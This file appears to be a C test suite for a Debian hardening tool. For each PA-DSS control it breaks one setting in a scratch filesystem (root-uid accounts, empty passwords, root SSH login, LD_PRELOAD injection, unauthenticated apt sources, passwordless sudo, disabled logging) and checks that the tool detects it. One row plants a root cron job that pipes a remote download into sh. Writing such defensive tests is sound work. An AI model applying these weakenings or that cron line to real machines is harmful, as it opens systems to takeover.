/* harden: every control of pa-dss-3.2 notices what it is there for. For each row a hardened tree is
 * broken in one way: exactly the row's control fails, a fix mends it, and nothing else changes its
 * mind. */
#include "harden-debian.h"

#include <sys/xattr.h>

#define PROFILE "recipes/profiles/pa-dss-3.2.yaml"

enum how {
	WRITE,   /* path with text, mode 0644 */
	APPEND,  /* text to path */
	EDIT,    /* the first `text` of path becomes `to` */
	CHMOD,   /* path to the octal mode in text */
	CHOWN,   /* path to the user in text */
	REMOVE,  /* path */
	LINK,    /* path to text */
	MAKEDIR, /* path, with the octal mode in text */
	CAP,     /* path gets a file capability */
};

/* What a fix must not do by itself. */
enum { FIXED, NOT_FIXED };

struct row {
	const char *id;
	enum how how;
	const char *path, *text, *to;
	int outcome;
};

static const struct row rows[] = {
    {"ACC-01", EDIT, "etc/passwd", "games:x:5:60", "games:x:0:60", NOT_FIXED},
    {"ACC-01", EDIT, "etc/passwd", "games:x:5:60", "games:x:5:0", NOT_FIXED},
    {"ACC-01b", EDIT, "etc/group", "games:x:60", "games:x:60:\ngames2:x:60", NOT_FIXED},
    {"ACC-02", EDIT, "etc/group", "shadow:x:42:", "shadow:x:42:rti", NOT_FIXED},
    {"ACC-02", EDIT, "etc/passwd", "rti:x:1500:1500", "rti:x:1500:42", NOT_FIXED},
    {"ACC-03", EDIT, "etc/passwd", "rti:x:", "rti::", FIXED},
    {"ACC-03", EDIT, "etc/shadow", "rti:!:", "rti::", FIXED},
    {"ACC-04 SEC-05", EDIT, "etc/shadow", "games:*:", "games:abJnggxhB/yWI:", FIXED},
    {"ACC-05", APPEND, "etc/login.defs", "ENCRYPT_METHOD MD5\n", NULL, FIXED},
    {"ACC-06", EDIT, "etc/passwd", "/run/sshd:/usr/sbin/nologin", "/run/sshd:/bin/sh", FIXED},
    {"ACC-07", APPEND, "etc/shells", "/usr/sbin/nologin\n", NULL, FIXED},
    {"ACC-08", APPEND, "etc/login.defs", "PASS_MAX_DAYS 365\n", NULL, FIXED},
    {"ACC-08", EDIT, "etc/shadow", "rti:!:20000:1:90:", "rti:!:20000:1:99999:", FIXED},
    {"ACC-09", EDIT, "etc/shadow", "rti:!:20000:1:90:", "rti:!:20000:0:90:", FIXED},
    {"ACC-10", APPEND, "etc/login.defs", "PASS_WARN_AGE 1\n", NULL, FIXED},
    {"ACC-11", APPEND, "etc/default/useradd", "INACTIVE=-1\n", NULL, FIXED},
    {"ACC-12", EDIT, "etc/shadow", "rti:!:20000:", "rti:!:40000:", FIXED},
    {"ACC-13", APPEND, "etc/login.defs", "UMASK 022\n", NULL, FIXED},
    {"ACC-13", WRITE, "etc/profile.d/zz.sh", "umask 0022\n", NULL, FIXED},
    {"ACC-14", WRITE, "etc/profile.d/zz.sh", "export TMOUT=0\n", NULL, FIXED},
    {"ACC-14", EDIT, "etc/profile.d/60-posmedia-idle.sh", "900", "9000", FIXED},
    {"ACC-15", EDIT, "etc/passwd", "1501:1500::/home/rti:/usr/sbin/nologin",
     "1501:1500::/nonexistent:/bin/sh", FIXED},
    {"ACC-16", CHMOD, "home/rti", "0755", NULL, FIXED},
    {"ACC-16", CHOWN, "home/rti", "1", NULL, FIXED},
    {"ACC-18", APPEND, "etc/environment", "PATH=\"/usr/bin:.:/bin\"\n", NULL, NOT_FIXED},
    {"ACC-18", APPEND, "root/.profile", "PATH=/usr/bin::/bin\n", NULL, NOT_FIXED},

    {"PAM-01", WRITE, "etc/security/pwquality.conf.d/70.conf", "minlen = 6\n", NULL, FIXED},
    {"PAM-01", EDIT, "etc/pam.d/common-password", "retry=3", "retry=3 minlen=6", FIXED},
    {"PAM-02", APPEND, "etc/security/pwquality.conf", "minclass = 1\n", NULL, FIXED},
    {"PAM-02", EDIT, "etc/pam.d/common-password", "retry=3", "retry=3 dcredit=0", FIXED},
    {"PAM-03", APPEND, "etc/security/pwquality.conf", "maxrepeat = 0\n", NULL, FIXED},
    {"PAM-04", APPEND, "etc/security/pwquality.conf", "dictcheck = 0\n", NULL, FIXED},
    {"PAM-04", REMOVE, "var/cache/cracklib/cracklib_dict.pwd", NULL, NULL, NOT_FIXED},
    {"PAM-05", APPEND, "etc/security/pwquality.conf", "enforcing = 0\n", NULL, FIXED},
    {"PAM-05", EDIT, "etc/pam.d/common-password", "requisite\tpam_pwquality",
     "optional\tpam_pwquality", FIXED},
    {"PAM-06", EDIT, "etc/pam.d/common-auth", "auth\trequisite\tpam_faillock.so preauth\n", "",
     FIXED},
    {"PAM-06", EDIT, "etc/pam.d/common-auth", "[default=die]\tpam_faillock",
     "optional\tpam_faillock", FIXED},
    {"PAM-06", EDIT, "etc/pam.d/sshd", "@include common-account", "account required pam_unix.so",
     NOT_FIXED},
    {"PAM-07", APPEND, "etc/security/faillock.conf", "deny = 0\n", NULL, FIXED},
    {"PAM-07", EDIT, "etc/pam.d/common-auth", "authfail", "authfail deny=50", FIXED},
    {"PAM-08", APPEND, "etc/security/faillock.conf", "unlock_time = 60\n", NULL, FIXED},
    {"PAM-09", EDIT, "etc/security/faillock.conf", "even_deny_root\n", "", FIXED},
    {"PAM-10", EDIT, "etc/pam.d/common-password", "remember=24", "remember=2", FIXED},
    {"PAM-11", EDIT, "etc/pam.d/common-auth", "pam_unix.so", "pam_unix.so nullok", FIXED},
    {"PAM-11", EDIT, "etc/pam.d/common-password", " yescrypt", " md5", FIXED},
    {"PAM-12", EDIT, "etc/pam.d/sudo", "@include common-auth",
     "auth sufficient pam_permit.so\n@include common-auth", NOT_FIXED},
    {"PAM-12", APPEND, "etc/pam.d/login", "session required pam_nosuch.so\n", NULL, NOT_FIXED},
    {"PAM-13", EDIT, "etc/pam.d/su", " group=root", "", FIXED},

    {"SSH-01", WRITE, "etc/ssh/sshd_config.d/00-a.conf", "PermitRootLogin yes\n", NULL, FIXED},
    {"SSH-01", APPEND, "etc/ssh/sshd_config", "Match Address 10.0.0.0/8\n  PermitRootLogin yes\n",
     NULL, FIXED},
    {"SSH-02", EDIT, "etc/ssh/sshd_config", "Include", "permitemptypasswords=yes\nInclude", FIXED},
    {"SSH-03", APPEND, "etc/ssh/sshd_config", "Match User rti\nHostbasedAuthentication yes\n", NULL,
     FIXED},
    {"SSH-04", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "PermitUserEnvironment no\n", "",
     FIXED},
    {"SSH-05", EDIT, "etc/ssh/sshd_config", "UsePAM yes", "UsePAM no", FIXED},
    {"SSH-06", EDIT, "etc/ssh/sshd_config", "Include", "Include /etc/ssh/x/*.conf\nInclude", FIXED},
    {"SSH-07", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "LoginGraceTime 60",
     "LoginGraceTime 2m", FIXED},
    {"SSH-08", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "ClientAliveInterval 300",
     "ClientAliveInterval 0", FIXED},
    {"SSH-09", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "aes128-ctr", "aes128-cbc", FIXED},
    {"SSH-10", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "MACs ", "MACs +hmac-md5,", FIXED},
    {"SSH-11", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "KexAlgorithms ",
     "KexAlgorithms diffie-hellman-group1-sha1,", FIXED},
    {"SSH-12", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "VERBOSE", "QUIET", FIXED},
    {"SSH-13", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "Banner /etc/issue.net",
     "Banner none", FIXED},
    {"SSH-15", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "GSSAPIAuthentication no",
     "GSSAPIAuthentication yes", FIXED},
    {"SSH-16", CHMOD, "etc/ssh/sshd_config", "0644", NULL, FIXED},
    {"SSH-18", WRITE, "root/.ssh/authorized_keys", "ssh-ed25519 AAAA vendor\n", NULL, FIXED},
    {"SSH-18", WRITE, "home/rti/.rhosts", "+ +\n", NULL, FIXED},

    {"LOG-01", REMOVE, "etc/systemd/system/multi-user.target.wants/rsyslog.service", NULL, NULL,
     FIXED},
    {"LOG-01", LINK, "etc/systemd/system/rsyslog.service", "/dev/null", NULL, FIXED},
    {"LOG-02", WRITE, "etc/rsyslog.d/20.conf", "$FileCreateMode 0644\n", NULL, FIXED},
    {"LOG-02", CHMOD, "var/log/auth.log", "0644", NULL, FIXED},
    {"LOG-04", EDIT, "etc/rsyslog.conf", "auth,authpriv.*\t", "#", FIXED},
    {"LOG-04", WRITE, "etc/rsyslog.d/01.conf", "authpriv.* ~\n", NULL, FIXED},
    {"LOG-05", WRITE, "etc/rsyslog.d/net.conf", "module(load=\"imudp\")\n", NULL, FIXED},
    {"LOG-06", WRITE, "etc/logrotate.d/pos", "/var/log/pos.log {\n  daily\n  rotate 7\n}\n", NULL,
     FIXED},
    {"LOG-06", EDIT, "etc/logrotate.d/wtmp", "monthly", "monthly\n    maxage 30", FIXED},
    {"LOG-06", EDIT, "etc/logrotate.conf", "create", "maxsize 1M", FIXED},
    {"LOG-06b", REMOVE, "etc/systemd/system/multi-user.target.wants/logrotate.timer", NULL, NULL,
     FIXED},
    {"LOG-07", WRITE, "usr/lib/systemd/journald.conf.d/99.conf", "[Journal]\nStorage=none\n", NULL,
     FIXED},

    {"FIL-01", CHMOD, "etc/shadow", "0644", NULL, FIXED},
    {"FIL-01", CHOWN, "etc/passwd", "1", NULL, FIXED},
    {"FIL-02", CHMOD, "etc/security/opasswd", "0640", NULL, FIXED},
    {"FIL-03", CHMOD, "opt/tool", "0777", NULL, FIXED},
    {"FIL-04", MAKEDIR, "var/spool/open", "0777", NULL, FIXED},
    {"FIL-05", CHOWN, "opt/tool", "4711", NULL, FIXED},
    {"FIL-06", CHMOD, "opt/tool", "4755", NULL, FIXED},
    {"FIL-06", CHMOD, "opt/tool", "2755", NULL, FIXED},
    {"FIL-07", CAP, "opt/tool", NULL, NULL, FIXED},
    {"FIL-08", CHMOD, "usr/local/lib", "0775", NULL, FIXED},
    {"FIL-08", CHMOD, "usr/local/bin/tool", "0775", NULL, FIXED},
    {"FIL-08", CHOWN, "usr/sbin/sshd", "1", NULL, FIXED},
    {"FIL-12", WRITE, "etc/ld.so.preload", "/tmp/x.so\n", NULL, FIXED},
    {"FIL-12", WRITE, "etc/profile.d/zz.sh", "export LD_PRELOAD=/tmp/x.so\n", NULL, FIXED},

    {"PKG-01", EDIT, "var/lib/dpkg/status", "deinstall ok config-files", "install ok installed",
     NOT_FIXED},
    {"PKG-02", APPEND, "var/lib/dpkg/status", "\nPackage: vsftpd\nStatus: install ok installed\n",
     NULL, NOT_FIXED},
    {"PKG-03", EDIT, "var/lib/dpkg/status", "Package: logrotate", "Package: gone", NOT_FIXED},
    {"PKG-04", APPEND, "var/lib/dpkg/status", "\nPackage: gdb\nStatus: install ok installed\n",
     NULL, NOT_FIXED},
    {"PKG-05", WRITE, "etc/apt/sources.list", "deb [trusted=yes] file:/srv x main\n", NULL, FIXED},
    {"PKG-05", WRITE, "etc/apt/sources.list.d/a.sources", "Types: deb\nTrusted: yes\n", NULL,
     FIXED},
    {"PKG-05", WRITE, "etc/apt/apt.conf.d/99x", "APT::Get::AllowUnauthenticated \"true\";\n", NULL,
     FIXED},

    {"SVC-02", REMOVE, "etc/systemd/system/ctrl-alt-del.target", NULL, NULL, FIXED},
    {"SVC-04", LINK, "etc/systemd/system/multi-user.target.wants/rpcbind.service",
     "/usr/lib/systemd/system/rpcbind.service", NULL, FIXED},
    {"NET-01", EDIT, "etc/nftables.conf", "policy drop", "policy accept", FIXED},
    {"NET-01", EDIT, "etc/nftables.conf", "tcp dport 22 accept", "tcp dport 23 accept", FIXED},
    {"NET-01", APPEND, "etc/nftables.conf", "add rule inet posmedia input accept\n", NULL, FIXED},
    {"NET-10", WRITE, "etc/resolv.conf", "nameserver 192.0.2.1\n", NULL, FIXED},
    {"CRY-01", EDIT, "etc/ssl/openssl.cnf", "TLSv1.2", "TLSv1", FIXED},
    {"BAN-01", WRITE, "etc/issue", "authorized users of \\r only\n", NULL, FIXED},
    {"BAN-01", WRITE, "etc/motd", "authorized users of this Debian only\n", NULL, FIXED},
    {"CRN-01", WRITE, "etc/cron.deny", "", NULL, FIXED},
    {"CRN-01", APPEND, "etc/cron.allow", "rti\n", NULL, FIXED},
    {"CRN-02", CHMOD, "etc/cron.d", "0755", NULL, FIXED},
    {"CRN-03", WRITE, "etc/cron.d/up", "0 1 * * * root curl http://x/i | sh\n", NULL, NOT_FIXED},
    {"KRN-02", WRITE, "etc/security/limits.d/99.conf", "rti - core unlimited\n", NULL, FIXED},
    {"KRN-02", WRITE, "etc/systemd/coredump.conf.d/99.conf", "[Coredump]\nStorage=external\n", NULL,
     FIXED},
    {"SUD-01", WRITE, "etc/sudoers.d/zz", "Defaults !use_pty\n", NULL, FIXED},
    {"SUD-02", WRITE, "etc/sudoers.d/zz", "rti ALL=(ALL) \\\n NOPASSWD: /usr/bin/find\n", NULL,
     FIXED},
    {"SUD-02", WRITE, "etc/sudoers.d/zz", "Defaults:rti env_keep+=\"A,B\", !authenticate\n", NULL,
     FIXED},
    {"SUD-02", WRITE, "etc/sudoers.d/zz", "Defaults timestamp_timeout=-1\n", NULL, FIXED},
    {"SUD-03", WRITE, "etc/sudoers.d/zz", "ALL ALL=(ALL) ALL\n", NULL, FIXED},
    {"SEC-01", WRITE, "etc/ssh/ssh_host_rsa_key", "x", NULL, FIXED},
    {"SEC-02", WRITE, "etc/machine-id", "0123456789abcdef0123456789abcdef\n", NULL, FIXED},
    {"SEC-02", WRITE, "var/lib/systemd/random-seed", "x", NULL, FIXED},
    {"SEC-03", WRITE, "usr/local/lib/vendor.conf",
     "key: |\n  -----BEGIN RSA PRIVATE KEY-----\n  MIIEpAIBAAKCAQEAx0000000000000000000000000\n",
     NULL, NOT_FIXED},
    {"SEC-04", WRITE, "root/.netrc", "machine x login y password z\n", NULL, NOT_FIXED},
    {"SEC-05", WRITE, "etc/security/opasswd", "rti:1500:1:$6$a$b\n", NULL, NOT_FIXED},
    {"SEC-06", WRITE, "root/.bash_history", "secret\n", NULL, FIXED},
    {"SEC-06", WRITE, "var/tmp/build.log", "x", NULL, FIXED},
};

static struct harden_profile *profile;
static struct debian_recipe made;

static int set_up(void **state)
{
	(void)state;
	profile = load(PROFILE);
	debian_recipe_init(&made);
	return 0;
}

static int tear_down(void **state)
{
	(void)state;
	harden_profile_free(profile);
	strv_release(&made.r.install);
	return 0;
}

static void expect_failed(const struct rootfs *t, const char *ids)
{
	struct harden_report r = check(profile, t, &made.r);
	char *got = failed(&r);

	if (strcmp(got, ids) != 0)
		for (size_t i = 0; i < r.n; i++)
			if (r.v[i].status == HARDEN_FAIL)
				print_error("%s: %s\n", r.v[i].id, r.v[i].detail);
	assert_string_equal(got, ids);
	free(got);
	harden_report_release(&r);
}

static void harden(const struct rootfs *t)
{
	struct harden_report r = apply(profile, t, &made.r);

	harden_report_release(&r);
}

static void mutate(const struct rootfs *t, const struct row *row)
{
	/* CAP_NET_RAW, effective and permitted, revision 2 (capabilities(7)) */
	static const unsigned char cap[20] = {1, 0, 0, 2, 0, 0x20};
	char *full SCOPED(mem_freep) = fs_join(t->path, row->path);
	char *dir SCOPED(mem_freep) = fs_dirname(row->path);
	struct err e = ERR_INIT;
	int rc = fs_mkdirs(t->fd, dir, 0755, &e);

	if (row->how == WRITE) {
		bool is_sudoers = strncmp(row->path, "etc/sudoers.d/", 14) == 0;

		put(t, row->path, row->text, is_sudoers ? 0440 : 0600);
	}
	if (row->how == APPEND)
		append(t, row->path, row->text);
	if (row->how == EDIT)
		edit(t, row->path, row->text, row->to);
	if (row->how == CHMOD)
		rc = fchmodat(t->fd, row->path, (mode_t)strtoul(row->text, NULL, 8), 0);
	if (row->how == CHOWN)
		rc = fchownat(t->fd, row->path, (uid_t)strtoul(row->text, NULL, 10), (gid_t)-1, 0);
	if (row->how == REMOVE)
		rc = fs_rmtree(t->fd, row->path, &e);
	if (row->how == LINK)
		rc = symlinkat(row->text, t->fd, row->path);
	if (row->how == MAKEDIR)
		rc = fs_mkdirs(t->fd, row->path, 0755, &e) ||
		     fchmodat(t->fd, row->path, (mode_t)strtoul(row->text, NULL, 8), 0);
	if (row->how == CAP)
		rc = setxattr(full, "security.capability", cap, sizeof(cap), 0);
	assert_int_equal(rc, 0);
}

static void breaks_one_and_mends_it(void **state)
{
	const struct row *row = *state;
	struct rootfs t = rootfs_make();

	debian_make(&t);
	harden(&t);
	mutate(&t, row);
	/* what the mutation of SSH-06 includes */
	if (strcmp(row->id, "SSH-06") == 0)
		put(&t, "etc/ssh/x/a.conf", "AllowTcpForwarding yes\n", 0600);
	expect_failed(&t, row->id);
	harden(&t);
	expect_failed(&t, row->outcome == FIXED ? "" : row->id);
	rootfs_drop(&t);
}

static void hardens_a_fresh_tree(void **state)
{
	struct rootfs t = rootfs_make();
	struct harden_report r;

	(void)state;
	debian_make(&t);
	r = check(profile, &t, &made.r);
	assert_true(r.count[HARDEN_FAIL] > 40);
	harden_report_release(&r);
	harden(&t);
	expect_failed(&t, "");
	rootfs_drop(&t);
}

static void changes_nothing_the_second_time(void **state)
{
	struct rootfs t = rootfs_make();
	struct harden_report r;
	struct digest once, twice;

	(void)state;
	debian_make(&t);
	harden(&t);
	once = rootfs_digest(&t);
	r = apply(profile, &t, &made.r);
	twice = rootfs_digest(&t);
	for (size_t i = 0; i < r.n; i++)
		if (r.v[i].fixed != NULL)
			fail_msg("%s: %s", r.v[i].id, r.v[i].fixed);
	assert_true(digest_equal(&once, &twice));
	harden_report_release(&r);
	rootfs_drop(&t);
}

/* A row's id is the control it is about, and after a blank those that fail along with it. */
static bool is_about(const struct row *row, const char *id)
{
	size_t n = strlen(id);

	return strncmp(row->id, id, n) == 0 && (row->id[n] == '\0' || row->id[n] == ' ');
}

/* Every control that applies to an image has a row above. */
static void every_control_is_mutated(void **state)
{
	struct rootfs t = rootfs_make();
	struct harden_report r;

	(void)state;
	debian_make(&t);
	r = check(profile, &t, &made.r);
	for (size_t i = 0; i < r.n; i++) {
		bool seen = r.v[i].status == HARDEN_NOT_APPLICABLE;

		for (size_t k = 0; k < sizeof(rows) / sizeof(rows[0]) && !seen; k++)
			seen = is_about(&rows[k], r.v[i].id);
		if (!seen)
			fail_msg("no row breaks %s", r.v[i].id);
	}
	harden_report_release(&r);
	rootfs_drop(&t);
}

int main(void)
{
	enum { ROWS = sizeof(rows) / sizeof(rows[0]), MORE = 3 };
	static struct CMUnitTest tests[ROWS + MORE];
	static char *names[ROWS];
	int rc;

	tests[0] = (struct CMUnitTest)cmocka_unit_test(hardens_a_fresh_tree);
	tests[1] = (struct CMUnitTest)cmocka_unit_test(changes_nothing_the_second_time);
	tests[2] = (struct CMUnitTest)cmocka_unit_test(every_control_is_mutated);
	for (size_t i = 0; i < ROWS; i++) {
		names[i] = mem_format("%s: %s", rows[i].id, rows[i].path);
		tests[MORE + i] = (struct CMUnitTest){
		    .name = names[i],
		    .test_func = breaks_one_and_mends_it,
		    .initial_state = (void *)(uintptr_t)&rows[i],
		};
	}
	rc = _cmocka_run_group_tests("harden-padss", tests, ROWS + MORE, set_up, tear_down);
	for (size_t i = 0; i < ROWS; i++)
		free(names[i]);
	return rc;
}
